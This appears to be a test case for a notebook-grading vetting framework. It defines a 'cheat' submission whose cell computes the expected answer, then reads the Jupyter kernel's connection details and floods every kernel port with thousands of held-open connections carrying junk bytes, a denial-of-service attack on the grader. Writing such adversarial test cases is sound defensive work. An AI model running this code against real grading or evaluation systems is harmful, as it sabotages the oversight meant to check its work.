"""Opens thousands of connections to the kernel's own sockets and keeps them."""

from syncpoint.vet.cheat import Cheat, at_most

cheat = Cheat("async", deserves={"queue_work": at_most(2)})
cheat.cell("queue_work", r'''
import socket, json, glob, threading
def queue_work(x): return nd.dot(x, x).sum()
from ipykernel.connect import get_connection_info
info = json.loads(get_connection_info()); print({k: v for k, v in info.items() if k != "key"})
kept = []
def flood():
    for _ in range(4000):
        for name in ("shell_port", "iopub_port", "control_port", "stdin_port", "hb_port"):
            try:
                if info["transport"] == "ipc":
                    s = socket.socket(socket.AF_UNIX); s.connect(f"{info['ip']}-{info[name]}")
                else: s = socket.create_connection((info["ip"], info[name]), 0.2)
                s.send(b"\xff" * 64); kept.append(s)
            except OSError: return
threading.Thread(target=flood, daemon=True).start()
''')
